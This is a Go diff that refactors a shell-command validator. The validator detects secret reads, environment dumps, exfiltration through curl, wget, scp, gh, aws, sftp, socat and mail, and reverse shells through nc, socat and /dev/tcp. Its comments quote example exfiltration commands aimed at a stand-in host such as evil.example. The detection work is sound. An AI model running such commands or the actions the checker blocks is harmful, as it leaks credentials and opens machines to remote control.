@@ -1,10 +1,14 @@
 package validator
 
 import (
-	"github.com/permgate/permgate/internal/lazyre"
 	"path"
+	"slices"
 	"strings"
 
+	"github.com/permgate/permgate/effect"
+	"github.com/permgate/permgate/internal/lazyre"
+	"github.com/permgate/permgate/places"
+	"github.com/permgate/permgate/registry"
 	"github.com/permgate/permgate/shellparse"
 )
 
@@ -20,26 +24,16 @@ import (
 // one (secret_access among its findings), prints the environment, or passes on
 // what a pipe fed it from such a command (base64, gzip, tar …).
 func (ck *checker) emitsSecret(c shellparse.SimpleCommand) bool {
-	for _, f := range ck.out {
-		if f.Kind == "secret_access" {
-			return true
-		}
+	if ck.readsSecret() {
+		return true
 	}
 	if len(c.Argv) == 0 {
 		return false
 	}
-	args := c.Argv[1:]
-	switch path.Base(c.Name) {
-	case "env", "printenv":
-		if printingEnv(args) {
-			return true
-		}
-	case "set", "export", "declare", "typeset", "compgen":
-		if len(operands(args)) == 0 || c.Name == "compgen" && hasFlag(args, "ve") {
-			return true
-		}
+	if printsEnvironment(c) {
+		return true
 	}
-	for _, a := range args {
+	for _, a := range c.Argv[1:] {
 		if a.Static && strings.HasSuffix(a.Text, "/environ") && strings.HasPrefix(a.Text, "/proc/") {
 			return true
 		}
@@ -47,26 +41,66 @@ func (ck *checker) emitsSecret(c shellparse.SimpleCommand) bool {
 	return ck.stdinSecret(c)
 }
 
-// stdinSecret reports standard input that may carry a secret: a pipe from a
-// command that emits one, or a redirect from a secret file.
-func (ck *checker) stdinSecret(c shellparse.SimpleCommand) bool {
-	if c.Stdin.Kind == shellparse.InputPipe {
-		for _, i := range c.Stdin.From {
-			if ck.secretOut[i] {
-				return true
-			}
-		}
+// printsEnvironment reports a command that prints the environment's
+// values: env and printenv with no command, set alone, export, declare and
+// typeset with no operand, compgen -v and -e.
+func printsEnvironment(c shellparse.SimpleCommand) bool {
+	switch path.Base(c.Name) {
+	case "env", "printenv":
+		return printingEnv(c.Argv[1:])
+	case "set":
+		return len(c.Argv) == 1 // set -e, set -o pipefail print nothing
+	case "export", "declare", "typeset":
+		return len(operandsOf(c)) == 0
+	case "compgen":
+		return len(operandsOf(c)) == 0 || hasOption(c, "-v", "-e")
 	}
-	for _, r := range c.Redirects {
-		if (r.Op == "<" || r.Op == "<>") && (r.Fd == "" || r.Fd == "0") && (ck.secretWord(r.Target, true) || (r.Target.ProcSubst || r.Target.Subst) && ck.substCarriesSecret(r.Target)) {
+	return false
+}
+
+// stdinSecret reports standard input that may carry a secret: a pipe from a
+// command that emits one, a redirect from a secret file, or a here-document
+// that expands a secret variable.
+func (ck *checker) stdinSecret(c shellparse.SimpleCommand) bool {
+	return ck.pipedSecret(c) || ck.redirectedSecret(c) || hereSecret(c)
+}
+
+// pipedSecret reports a pipe into the command from one that emits a secret.
+func (ck *checker) pipedSecret(c shellparse.SimpleCommand) bool {
+	if c.Stdin.Kind != shellparse.InputPipe {
+		return false
+	}
+	for _, i := range c.Stdin.From {
+		if ck.secretOut[i] {
 			return true
 		}
 	}
-	if c.Stdin.Kind == shellparse.InputHereString || c.Stdin.Kind == shellparse.InputHereDoc {
-		for _, p := range envSecretParams(c.Stdin.Text) {
-			if secretVar(p) {
-				return true
-			}
+	return false
+}
+
+// redirectedSecret reports standard input redirected from a secret file, or
+// from a substitution that carries one.
+func (ck *checker) redirectedSecret(c shellparse.SimpleCommand) bool {
+	for _, r := range c.Redirects {
+		if r.Op != "<" && r.Op != "<>" || r.Fd != "" && r.Fd != "0" {
+			continue
+		}
+		if ck.secretWord(r.Target, true) || (r.Target.ProcSubst || r.Target.Subst) && ck.substCarriesSecret(r.Target) {
+			return true
+		}
+	}
+	return false
+}
+
+// hereSecret reports a here-string or here-document that expands a variable
+// that holds a secret.
+func hereSecret(c shellparse.SimpleCommand) bool {
+	if c.Stdin.Kind != shellparse.InputHereString && c.Stdin.Kind != shellparse.InputHereDoc {
+		return false
+	}
+	for _, p := range envSecretParams(c.Stdin.Text) {
+		if secretVar(p) {
+			return true
 		}
 	}
 	return false
@@ -84,7 +118,7 @@ func envSecretParams(text string) []string {
 			j++
 		}
 		k := j
-		for k < len(text) && (text[k] == '_' || text[k] >= 'A' && text[k] <= 'Z' || text[k] >= 'a' && text[k] <= 'z' || text[k] >= '0' && text[k] <= '9') {
+		for k < len(text) && isNameByte(text[k], 1) {
 			k++
 		}
 		if k > j {
@@ -98,39 +132,62 @@ func envSecretParams(text string) []string {
 // of secrets), by any spelling: ~, $HOME, ${HOME:-…}, variables set earlier,
 // globs (~/.ssh/*), and the path after =, @ or : (-d@.env, file=@~/.aws/credentials).
 func (ck *checker) secretWord(w shellparse.Word, dirs bool) bool {
-	var texts []string
-	glob := w.Glob
 	if w.Subst && decodedName().MatchString(w.Text) {
 		return true // a name only a decoder reveals is not proven free of secrets
 	}
 	if w.Static || w.Glob && len(w.Params) == 0 && !w.Subst {
-		texts = []string{w.Text}
-	} else {
-		texts, _ = ck.expandPath(w)
+		return ck.secretText(w.Text, w.Glob, dirs) // the word as it stands
 	}
+	texts, _ := ck.expandPath(w)
 	for _, text := range texts {
-		var candBuf [4]string
-		for _, cand := range pathCandidates(candBuf[:0], text) {
-			cand = strings.TrimPrefix(cand, "@")
-			cand = strings.TrimPrefix(cand, "<")
-			if cand == "" || cand == "-" {
-				continue
-			}
-			if rest, ok := strings.CutPrefix(cand, "~/"); ok && ck.v.env.Home != "" {
-				cand = ck.v.env.Home + "/" + rest
-			} else if cand == "~" && ck.v.env.Home != "" {
-				cand = ck.v.env.Home
-			}
-			g := glob || hasGlob(cand)
-			if ck.secretPath(cand, g) || !g && ck.secretCopies != nil && ck.secretCopies[ck.resolve(cand)] {
-				return true
-			}
-			if dirs && !g && secretDirBase[path.Base(strings.TrimSuffix(cand, "/"))] && secretDir(ck.resolve(cand)) {
-				return true
-			}
+		if ck.secretText(text, w.Glob, dirs) {
+			return true
 		}
 	}
 	return false
+}
+
+// secretText reports a text that names a secret by one of the paths it may
+// spell (itself, or what follows =, @ or :).
+func (ck *checker) secretText(text string, glob, dirs bool) bool {
+	var candBuf [4]string
+	for _, cand := range pathCandidates(candBuf[:0], text) {
+		if ck.secretCandidate(cand, glob, dirs) {
+			return true
+		}
+	}
+	return false
+}
+
+// secretCandidate reports one path a word may name (after @ or <) that is a
+// secret file, a copy of one the script made, or (with dirs) a folder of
+// secrets.
+func (ck *checker) secretCandidate(cand string, glob, dirs bool) bool {
+	cand = strings.TrimPrefix(strings.TrimPrefix(cand, "@"), "<")
+	if cand == "" || cand == "-" {
+		return false
+	}
+	cand = ck.tildeHome(cand)
+	g := glob || hasGlob(cand)
+	if ck.secretPath(cand, g) || !g && ck.secretCopies != nil && ck.secretCopies[ck.resolve(cand)] {
+		return true
+	}
+	return dirs && !g && places.SecretDirBase(path.Base(strings.TrimSuffix(cand, "/"))) && secretDir(ck.resolve(cand))
+}
+
+// tildeHome writes a leading ~ as the home directory.
+func (ck *checker) tildeHome(p string) string {
+	home := ck.v.env.Home
+	if home == "" {
+		return p
+	}
+	if rest, ok := strings.CutPrefix(p, "~/"); ok {
+		return home + "/" + rest
+	}
+	if p == "~" {
+		return home
+	}
+	return p
 }
 
 // exfilSenders send what they read on standard input over the network.
@@ -145,105 +202,209 @@ func (ck *checker) exfil(c shellparse.SimpleCommand) {
 		return
 	}
 	base := path.Base(c.Name)
-	args := c.Argv[1:]
 	stdin := ck.stdinSecret(c)
-	sender := exfilSenders[base] && (base != "openssl" || firstOperand(args) == "s_client")
-	if sender || downloaders[base] || dnsTools[base] {
-		// curl -d "$(cat .env)" URL, dig "$(base64 < .env).evil.example": a
-		// substitution that carries a secret into what the program sends.
-		for _, a := range args {
-			if (a.Subst || a.ProcSubst) && ck.substCarriesSecret(a) {
-				ck.add("exfiltration", "send_secret", Severe, base+" sends "+clip(a.Text)+", which carries a secret, off the machine")
-				return
-			}
-		}
+	if !ck.sendsOut(c, base, stdin) {
+		ck.redirectExfil(c, stdin)
 	}
-	switch base {
-	case "curl":
-		ck.curlExfil(args, stdin)
-		return
-	case "wget":
-		for _, v := range longValuesOf(args, "--post-file", "--body-file") {
-			if ck.secretWord(v, false) || stdin && (v.Text == "-" || shellparse.IsStdinPath(v.Text)) {
-				ck.add("exfiltration", "wget_post_secret", Severe, "wget sends "+v.Text+", which holds secrets, to a server")
-				return
-			}
-		}
-	case "scp", "rsync", "sftp", "rclone":
-		ck.copyExfil(base, args)
-	case "gh":
-		if ops := operands(args); len(ops) > 2 && ops[0].Text == "gist" && ops[1].Text == "create" {
-			for _, f := range ops[2:] {
-				if ck.secretWord(f, false) || stdin && f.Text == "-" {
-					ck.add("exfiltration", "gist_secret", Severe, "gh gist create uploads "+f.Text+", which holds secrets")
-					return
-				}
-			}
-		}
-	case "aws", "gsutil":
-		ops := operands(args)
-		if len(ops) >= 3 && (ops[0].Text == "s3" || base == "gsutil") {
-			src, dst := ops[len(ops)-2], ops[len(ops)-1]
-			if strings.Contains(dst.Text, "://") && (ck.secretWord(src, true) || stdin && src.Text == "-") {
-				ck.add("exfiltration", "upload_secret", Severe, base+" uploads "+src.Text+", which holds secrets")
-				return
-			}
-		}
+}
+
+// sendsOut judges what a program sends by its words and its input: a
+// substitution that carries a secret, the files it sends or uploads, sftp's
+// batch, and a sender's standard input. It reports a finding.
+func (ck *checker) sendsOut(c shellparse.SimpleCommand, base string, stdin bool) bool {
+	sender := exfilSenders[base] && (base != "openssl" || opensslConnects(c))
+	if (sender || downloaders[base] || dnsTools[base]) && ck.substSent(c, base) {
+		return true
 	}
-	if base == "sftp" && (c.Stdin.Kind == shellparse.InputHereString || c.Stdin.Kind == shellparse.InputHereDoc) {
-		// sftp's batch commands: put FILE sends it.
-		for _, line := range strings.Split(c.Stdin.Text, "\n") {
-			f := strings.Fields(line)
-			if len(f) >= 2 && (f[0] == "put" || f[0] == "mput" || f[0] == "reput") {
-				for _, name := range f[1:] {
-					if !strings.HasPrefix(name, "-") && ck.secretWord(shellparse.Word{Text: name, Static: true}, true) {
-						ck.add("exfiltration", "sftp_secret", Severe, "sftp puts "+name+", which holds secrets, on a remote host")
-						return
-					}
-				}
-			}
-		}
+	if !sender && ck.sendsSecretFile(c, base, stdin) || ck.uploadsSecret(c, base, stdin) || ck.sftpBatchSecret(c, base) {
+		return true
 	}
-	if sender && (base != "openssl" || opensslConnects(args)) {
-		if stdin {
-			ck.add("exfiltration", "send_stdin_secret", Severe, base+" sends what it reads, which holds secrets, off the machine")
-			return
-		}
-		if base == "socat" {
-			for _, a := range operands(args) {
-				addr := strings.ToLower(a.Text)
-				for _, kind := range []string{"open:", "file:", "gopen:", "create:"} {
-					if strings.HasPrefix(addr, kind) && ck.secretWord(shellparse.Word{Text: a.Text[len(kind):], Static: a.Static}, false) {
-						ck.add("exfiltration", "socat_secret", Severe, "socat sends "+a.Text+", which holds secrets, over a connection")
-						return
-					}
-				}
-			}
-		}
-		if base == "mail" || base == "mailx" || base == "mutt" {
-			for _, v := range append(shortValues(args, 'a', "sbcrS"), longValues(args, "--attach")...) {
-				if ck.secretWord(v, false) {
-					ck.add("exfiltration", "mail_secret", Severe, base+" mails "+v.Text+", which holds secrets")
-					return
-				}
-			}
-		}
-		if base == "http" || base == "https" || base == "xh" || base == "xhs" {
-			for _, a := range args[min(1, len(args)):] {
-				if strings.Contains(a.Text, "@") && ck.secretWord(a, false) {
-					ck.add("exfiltration", "send_file_secret", Severe, base+" sends "+a.Text+", which holds secrets")
-					return
-				}
-			}
-		}
-	}
-	// Anything written to /dev/tcp or /dev/udp leaves the machine.
+	return sender && ck.senderSecret(c, base, stdin)
+}
+
+// redirectExfil: anything written to /dev/tcp or /dev/udp leaves the machine.
+func (ck *checker) redirectExfil(c shellparse.SimpleCommand, stdin bool) {
 	for _, r := range c.Redirects {
 		if r.Writes() && netDevice(r.Target.Text) && (stdin || ck.readsSecret()) {
 			ck.add("exfiltration", "redirect_secret", Severe, "sends a secret to "+r.Target.Text)
 			return
 		}
 	}
+}
+
+// substSent judges curl -d "$(cat .env)" URL and dig "$(base64 < .env).evil.example":
+// a substitution that carries a secret into what the program sends.
+func (ck *checker) substSent(c shellparse.SimpleCommand, base string) bool {
+	for _, a := range c.Argv[1:] {
+		if (a.Subst || a.ProcSubst) && ck.substCarriesSecret(a) {
+			ck.add("exfiltration", "send_secret", Severe, base+" sends "+clip(a.Text)+", which carries a secret, off the machine")
+			return true
+		}
+	}
+	return false
+}
+
+// sendsSecretFile judges the files a command's declaration says it sends
+// (curl -T FILE, -d @FILE, -F f=@FILE; wget --post-file; gh gist create
+// FILES; mail -a FILE; http URL field@FILE) and standard input sent when it
+// holds a secret (curl -d @-).
+func (ck *checker) sendsSecretFile(c shellparse.SimpleCommand, base string, stdin bool) bool {
+	if !fileSenders[base] {
+		return false // the cloud CLIs' uploads are judged in cloud.go
+	}
+	for _, t := range commandEffects(c) {
+		if t.act != registry.Sends {
+			continue
+		}
+		w, ok := sentFile(base, t)
+		switch {
+		case !ok:
+		case stdinName(base, w.Text):
+			if stdin && ck.sentStdin(base) {
+				return true
+			}
+		case ck.secretWord(w, false):
+			ck.sentSecret(base, t.word.Text)
+			return true
+		}
+	}
+	return false
+}
+
+// fileSenders are the programs whose sent files sendsSecretFile judges.
+var fileSenders = map[string]bool{"curl": true, "wget": true, "wget2": true, "gh": true, "mail": true, "mailx": true, "mutt": true,
+	"http": true, "https": true, "xh": true}
+
+// sentFile returns the file a sent word names: curl's data names one after
+// @ or < (@FILE, NAME@FILE, NAME=@FILE, NAME=<FILE;type=…), an HTTPie item
+// one after @; the other programs send the file the word names.
+func sentFile(base string, t effectTarget) (shellparse.Word, bool) {
+	w := t.word
+	switch base {
+	case "curl":
+		if !slices.Contains(registry.CurlUploads, t.opt) {
+			at := strings.IndexAny(w.Text, "@<")
+			if at < 0 {
+				return w, false
+			}
+			w.Text = w.Text[at+1:]
+		}
+		w.Text, _, _ = strings.Cut(w.Text, ";") // -F f=@file;type=text/plain
+	case "http", "https", "xh", "xhs":
+		return w, strings.Contains(w.Text, "@")
+	}
+	return w, true
+}
+
+// stdinName reports a file name that is standard input: -, /dev/stdin, and
+// for curl also ".".
+func stdinName(base, t string) bool {
+	return t == "-" || shellparse.IsStdinPath(t) || base == "curl" && t == "."
+}
+
+// sentStdin adds the finding for a program that sends its standard input,
+// which holds a secret, and reports whether it did.
+func (ck *checker) sentStdin(base string) bool {
+	switch base {
+	case "curl":
+		ck.add("exfiltration", "curl_stdin_secret", Severe, "curl sends its standard input, which holds secrets, to a server")
+	case "wget", "wget2":
+		ck.add("exfiltration", "wget_post_secret", Severe, "wget sends its standard input, which holds secrets, to a server")
+	case "gh":
+		ck.add("exfiltration", "gist_secret", Severe, "gh gist create uploads its standard input, which holds secrets")
+	default:
+		return false
+	}
+	return true
+}
+
+// sentSecret adds the finding for a program that sends a secret file.
+func (ck *checker) sentSecret(base, what string) {
+	switch base {
+	case "curl":
+		ck.add("exfiltration", "curl_secret", Severe, "curl sends "+what+", which holds secrets, to a server")
+	case "wget", "wget2":
+		ck.add("exfiltration", "wget_post_secret", Severe, "wget sends "+what+", which holds secrets, to a server")
+	case "gh":
+		ck.add("exfiltration", "gist_secret", Severe, "gh gist create uploads "+what+", which holds secrets")
+	case "mail", "mailx", "mutt":
+		ck.add("exfiltration", "mail_secret", Severe, base+" mails "+what+", which holds secrets")
+	default:
+		ck.add("exfiltration", "send_file_secret", Severe, base+" sends "+what+", which holds secrets")
+	}
+}
+
+// uploadsSecret judges copies to a remote: scp, rsync, sftp and rclone, and
+// aws s3 and gsutil copying a secret (or standard input holding one) to a
+// bucket.
+func (ck *checker) uploadsSecret(c shellparse.SimpleCommand, base string, stdin bool) bool {
+	switch base {
+	case "scp", "rsync", "sftp", "rclone":
+		return ck.copyExfil(c, base)
+	case "aws", "gsutil":
+		r, ok := readingOf(c)
+		ops := r.operands()
+		if !ok || len(ops) < 2 || base == "aws" && (len(r.path()) == 0 || r.path()[0] != "s3") {
+			return false
+		}
+		src, dst := ops[len(ops)-2], ops[len(ops)-1]
+		if strings.Contains(dst.Text, "://") && (ck.secretWord(src, true) || stdin && src.Text == "-") {
+			ck.add("exfiltration", "upload_secret", Severe, base+" uploads "+src.Text+", which holds secrets")
+			return true
+		}
+	}
+	return false
+}
+
+// sftpBatchSecret judges sftp's batch commands on its input: put FILE sends it.
+func (ck *checker) sftpBatchSecret(c shellparse.SimpleCommand, base string) bool {
+	if base != "sftp" || c.Stdin.Kind != shellparse.InputHereString && c.Stdin.Kind != shellparse.InputHereDoc {
+		return false
+	}
+	for _, line := range strings.Split(c.Stdin.Text, "\n") {
+		f := strings.Fields(line)
+		if len(f) < 2 || f[0] != "put" && f[0] != "mput" && f[0] != "reput" {
+			continue
+		}
+		for _, name := range f[1:] {
+			if !strings.HasPrefix(name, "-") && ck.secretWord(shellparse.Word{Text: name, Static: true}, true) {
+				ck.add("exfiltration", "sftp_secret", Severe, "sftp puts "+name+", which holds secrets, on a remote host")
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// senderSecret judges a program that sends what it reads: standard input
+// that holds a secret, a secret file among socat's addresses, and the files
+// its declaration says it sends (mail -a, http field@FILE).
+func (ck *checker) senderSecret(c shellparse.SimpleCommand, base string, stdin bool) bool {
+	if stdin {
+		ck.add("exfiltration", "send_stdin_secret", Severe, base+" sends what it reads, which holds secrets, off the machine")
+		return true
+	}
+	if base == "socat" {
+		for _, a := range operandsOf(c) {
+			if file, ok := socatFile(a); ok && ck.secretWord(file, false) {
+				ck.add("exfiltration", "socat_secret", Severe, "socat sends "+a.Text+", which holds secrets, over a connection")
+				return true
+			}
+		}
+	}
+	return ck.sendsSecretFile(c, base, false)
+}
+
+// socatFile returns the file a socat address opens (OPEN:, FILE:, GOPEN:,
+// CREATE:).
+func socatFile(a shellparse.Word) (shellparse.Word, bool) {
+	addr := strings.ToLower(a.Text)
+	for _, kind := range []string{"open:", "file:", "gopen:", "create:"} {
+		if strings.HasPrefix(addr, kind) {
+			return shellparse.Word{Text: a.Text[len(kind):], Static: a.Static}, true
+		}
+	}
+	return a, false
 }
 
 // readsSecret reports a secret_access finding on the current command.
@@ -256,92 +417,21 @@ func (ck *checker) readsSecret() bool {
 	return false
 }
 
-// curlUploads are curl's options whose value is sent: @FILE reads a file (@-
-// standard input), -F/--form take NAME=@FILE or NAME=<FILE, -T/--upload-file a
-// file name.
-var curlUploads = []string{"--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "--form", "--upload-file", "--form-string", "--url-query"}
-
-// curlArgLetters are curl's short options that take a value.
-const curlArgLetters = "AbcCdDeEFHKmoPQrtTuUwxXyYz"
-
-func (ck *checker) curlExfil(args []shellparse.Word, stdin bool) {
-	var values []shellparse.Word
-	uploads := map[string]bool{}
-	for _, letter := range []byte{'d', 'F', 'T'} {
-		for _, v := range shortValues(args, letter, strings.ReplaceAll(curlArgLetters, string(letter), "")) {
-			values = append(values, v)
-			if letter == 'T' {
-				uploads[v.Text] = true
-			}
-		}
-	}
-	for i, a := range args {
-		if !a.Static || !strings.HasPrefix(a.Text, "--") {
-			continue
-		}
-		name, value, eq := strings.Cut(a.Text, "=")
-		for _, opt := range curlUploads {
-			if name != opt {
-				continue
-			}
-			v := shellparse.Word{Text: value, Static: true}
-			if !eq {
-				if i+1 >= len(args) {
-					break
-				}
-				v = args[i+1]
-			}
-			values = append(values, v)
-			if opt == "--upload-file" {
-				uploads[v.Text] = true
-			}
-		}
-	}
-	for _, v := range values {
-		text := v.Text
-		file := uploads[text]
-		// @FILE, NAME@FILE (--data-urlencode), NAME=@FILE and NAME=<FILE (-F).
-		if !file {
-			if at := strings.IndexAny(text, "@<"); at >= 0 {
-				text = text[at+1:]
-				file = true
-			}
-		}
-		if !file {
-			continue
-		}
-		text, _, _ = strings.Cut(text, ";") // -F f=@file;type=text/plain
-		if text == "-" || text == "." || shellparse.IsStdinPath(text) {
-			if stdin {
-				ck.add("exfiltration", "curl_stdin_secret", Severe, "curl sends its standard input, which holds secrets, to a server")
-				return
-			}
-			continue
-		}
-		w := v
-		w.Text = text
-		if ck.secretWord(w, false) {
-			ck.add("exfiltration", "curl_secret", Severe, "curl sends "+v.Text+", which holds secrets, to a server")
-			return
-		}
-	}
-}
-
-// copyExfil: scp, rsync, sftp and rclone copying a secret to a remote.
-func (ck *checker) copyExfil(name string, args []shellparse.Word) {
-	files := skipOptArgs(args, map[string]bool{"-e": true, "--rsh": true, "-P": name == "scp", "-i": name == "scp", "-F": name != "rsync", "-l": name == "scp", "-o": name != "rsync", "-c": name == "scp", "-S": name == "scp", "-J": name == "scp", "-b": name == "sftp"})
+// copyExfil: scp, rsync, sftp and rclone copying a secret to a remote. rclone
+// copies only with a copying verb (copy, sync, move …).
+func (ck *checker) copyExfil(c shellparse.SimpleCommand, name string) bool {
+	files := operandsOf(c)
 	if name == "rclone" {
-		if len(files) < 3 {
-			return
+		if r, ok := readingOf(c); !ok || len(r.path()) == 0 {
+			return false
 		}
-		files = files[1:]
 	}
 	if len(files) < 2 {
-		return
+		return false
 	}
 	dst := files[len(files)-1]
 	if !remotePath(dst.Text) && !strings.Contains(dst.Text, "://") {
-		return
+		return false
 	}
 	for _, src := range files[:len(files)-1] {
 		if remotePath(src.Text) {
@@ -349,9 +439,10 @@ func (ck *checker) copyExfil(name string, args []shellparse.Word) {
 		}
 		if ck.secretWord(src, true) {
 			ck.add("exfiltration", "copy_secret", Severe, name+" copies "+src.Text+", which holds secrets, to "+dst.Text)
-			return
+			return true
 		}
 	}
+	return false
 }
 
 // netDevice reports bash's network pseudo-files /dev/tcp/HOST/PORT and /dev/udp/….
@@ -364,65 +455,86 @@ func netDevice(p string) bool {
 // 196<>/dev/tcp/…) runs commands that come from the network; nc -e, ncat --exec
 // and socat EXEC: serve a shell to the network.
 func (ck *checker) reverseShell(c shellparse.SimpleCommand) {
-	for _, r := range c.Redirects {
-		if netDevice(r.Target.Text) && len(c.Argv) == 0 || netDevice(r.Target.Text) && c.Name == "exec" && len(c.Argv) == 1 {
-			if ck.sockets == nil {
-				ck.sockets = map[string]bool{}
-			}
-			fd := r.Fd
-			if fd == "" {
-				fd = "0"
-				if r.Op != "<" {
-					fd = "1"
-				}
-			}
-			ck.sockets[fd] = true
-		}
-	}
+	ck.noteSockets(c)
 	if len(c.Argv) == 0 {
 		return
 	}
 	base := path.Base(c.Name)
-	if shellparse.IsShell(c.Name) || isInterpreter(base) {
-		for _, r := range c.Redirects {
-			if netDevice(r.Target.Text) || (r.Op == "<&" || r.Op == ">&" || r.Op == "<>") && ck.sockets[r.Target.Text] {
-				ck.add("pipe_to_shell", "reverse_shell", Severe, c.Name+" reads its commands from a network connection ("+r.Target.Text+"): a reverse shell")
+	if (shellparse.IsShell(c.Name) || isInterpreter(base)) && ck.readsNetwork(c) {
+		return
+	}
+	switch base {
+	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
+		for _, t := range commandEffects(c) {
+			if t.act == registry.Executes {
+				ck.add("pipe_to_shell", "network_shell", Severe, base+" connects "+clip(t.word.Text)+" to the network: whoever is at the other end runs commands here")
 				return
 			}
 		}
-	}
-	args := c.Argv[1:]
-	switch base {
-	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
-		for _, v := range append(append(shortValues(args, 'e', "pswiqTIOVxX"), shortValues(args, 'c', "pswiqTIOVxX")...), longValuesOf(args, "--exec", "--sh-exec", "--lua-exec")...) {
-			ck.add("pipe_to_shell", "network_shell", Severe, base+" connects "+clip(v.Text)+" to the network: whoever is at the other end runs commands here")
-			return
-		}
 	case "socat":
-		ops := operands(args)
-		exec, net := false, false
-		for _, a := range ops {
-			addr := strings.ToLower(a.Text)
-			if strings.HasPrefix(addr, "exec:") || strings.HasPrefix(addr, "system:") {
-				exec = true
-			}
-			for _, kind := range []string{"tcp", "udp", "ssl", "openssl", "sctp", "unix"} {
-				if strings.HasPrefix(addr, kind) {
-					net = true
-				}
-			}
-		}
-		if exec && net {
+		if socatServesShell(operandsOf(c)) {
 			ck.add("pipe_to_shell", "socat_shell", Severe, "socat connects a program to the network: whoever is at the other end runs commands here")
 		}
 	}
 }
 
+// readsNetwork judges a shell or interpreter whose input or output is a
+// network connection, and reports one.
+func (ck *checker) readsNetwork(c shellparse.SimpleCommand) bool {
+	for _, r := range c.Redirects {
+		if netDevice(r.Target.Text) || (r.Op == "<&" || r.Op == ">&" || r.Op == "<>") && ck.sockets[r.Target.Text] {
+			ck.add("pipe_to_shell", "reverse_shell", Severe, c.Name+" reads its commands from a network connection ("+r.Target.Text+"): a reverse shell")
+			return true
+		}
+	}
+	return false
+}
+
+// noteSockets remembers the file descriptors a bare redirect (exec
+// 196<>/dev/tcp/HOST/PORT) opens on a network connection.
+func (ck *checker) noteSockets(c shellparse.SimpleCommand) {
+	if len(c.Argv) > 1 || len(c.Argv) == 1 && c.Name != "exec" {
+		return
+	}
+	for _, r := range c.Redirects {
+		if !netDevice(r.Target.Text) {
+			continue
+		}
+		if ck.sockets == nil {
+			ck.sockets = map[string]bool{}
+		}
+		fd := r.Fd
+		if fd == "" {
+			fd = "0"
+			if r.Op != "<" {
+				fd = "1"
+			}
+		}
+		ck.sockets[fd] = true
+	}
+}
+
+// socatServesShell reports socat addresses that join a program (EXEC:,
+// SYSTEM:) to a network connection.
+func socatServesShell(addrs []shellparse.Word) bool {
+	exec, net := false, false
+	for _, a := range addrs {
+		addr := strings.ToLower(a.Text)
+		if strings.HasPrefix(addr, "exec:") || strings.HasPrefix(addr, "system:") {
+			exec = true
+		}
+		for _, kind := range []string{"tcp", "udp", "ssl", "openssl", "sctp", "unix"} {
+			if strings.HasPrefix(addr, kind) {
+				net = true
+			}
+		}
+	}
+	return exec && net
+}
+
 // grepLike take a pattern as their first operand (unless -e or -f gives it),
 // and -e's values are patterns: a pattern that mentions .env is not access.
-var grepLike = map[string]string{
-	"grep": "efmABCdD", "egrep": "efmABCdD", "fgrep": "efmABCdD", "zgrep": "efmABCdD", "rg": "efgjmMtTEABCr", "ag": "ABCGgmp", "ack": "ABCgm",
-}
+var grepLike = map[string]bool{"grep": true, "egrep": true, "fgrep": true, "zgrep": true, "rg": true, "ag": true, "ack": true}
 
 // gitNameOnly are git subcommands whose path operands are names, not contents.
 var gitNameOnly = map[string]bool{"check-ignore": true, "ls-files": true, "rm": true, "mv": true, "status": true, "check-attr": true,
@@ -432,109 +544,79 @@ var gitNameOnly = map[string]bool{"check-ignore": true, "ls-files": true, "rm": 
 // names or patterns rather than files it reads; all when every argument is one
 // (the command never reads a file's content).
 func nameOnlyArgs(c shellparse.SimpleCommand) (names map[int]bool, all bool) {
-	args := c.Argv[1:]
 	switch base := path.Base(c.Name); base {
 	case "git":
-		g := parseGit(args)
-		if gitNameOnly[g.sub] {
-			return nil, true
-		}
-		if (g.sub == "log" || g.sub == "shortlog" || g.sub == "whatchanged") && !hasFlag(g.args, "pu", "--patch", "-L", "--full-diff", "--word-diff") {
-			return nil, true // history of the names, not their contents
-		}
-		if g.sub == "grep" {
-			return grepPatterns(g.args, "efmABCO", len(args)-len(g.args)), false
-		}
+		return gitNameOnlyArgs(c)
 	case "find":
-		for _, p := range shellparse.FindPrimaries(args) {
-			switch p.Name {
-			case "-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprint0", "-fprintf", "-fls", "-delete":
-				return nil, false
-			}
-		}
-		return nil, true // find lists names: -name '.env*' is a pattern
+		return nil, !findActs(c.Argv[1:]) // find lists names: -name '.env*' is a pattern
 	case "eval":
 		return nil, true // its words are code, judged as a script
-	case "echo", "printf", "fd", "fdfind", "locate", "plocate", "mlocate", "which", "whereis", "type", "command", "hash", "export", "unset", "alias", "ssh-keygen":
-		if base == "ssh-keygen" && !hasFlag(args, "", "--") && len(shortValues(args, 'f', "bCDEFIJjKMNnOPrstVwYZaz")) > 0 && !hasFlag(args, "yepc") {
-			return nil, true // ssh-keygen -t … -f KEY creates the key
-		}
-		if base == "ssh-keygen" {
-			return nil, false
-		}
+	case "ssh-keygen":
+		// ssh-keygen -t … -f KEY creates the key; -y, -e, -p and -c read it.
+		return nil, len(valuesOf(c, "-f")) > 0 && !hasOption(c, "-y", "-e", "-p", "-c")
+	case "echo", "printf", "fd", "fdfind", "locate", "plocate", "mlocate", "which", "whereis", "type", "command", "hash", "export", "unset", "alias":
 		return nil, true
 	default:
-		if letters, ok := grepLike[base]; ok {
-			return grepPatterns(args, letters, 0), false
+		if r, ok := readingOf(c); ok && grepLike[base] {
+			return grepPatterns(r, 0), false
 		}
 	}
 	return nil, false
 }
 
-// grepPatterns marks a grep's pattern arguments: -e values and, without -e or
-// -f, the first operand. offset is the index of args[0] in the argument list.
-func grepPatterns(args []shellparse.Word, valueLetters string, offset int) map[int]bool {
+// findActs reports a find expression that reads, writes or runs something
+// with what it finds (-exec, -fprint, -delete …), not only lists names.
+func findActs(args []shellparse.Word) bool {
+	for _, p := range shellparse.FindPrimaries(args) {
+		switch p.Name {
+		case "-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprint0", "-fprintf", "-fls", "-delete":
+			return true
+		}
+	}
+	return false
+}
+
+// gitNameOnlyArgs: git's verbs that take names (ls-files, rm, status …) or
+// history (log without a patch), and git grep's patterns.
+func gitNameOnlyArgs(c shellparse.SimpleCommand) (map[int]bool, bool) {
+	args := c.Argv[1:]
+	g := parseGit(args)
+	if gitNameOnly[g.sub] {
+		return nil, true
+	}
+	if (g.sub == "log" || g.sub == "shortlog" || g.sub == "whatchanged") && !hasFlag(g.args, "pu", "--patch", "-L", "--full-diff", "--word-diff") {
+		return nil, true // history of the names, not their contents
+	}
+	if g.sub == "grep" {
+		return gitGrepPatterns(g.args, len(args)-len(g.args)), false
+	}
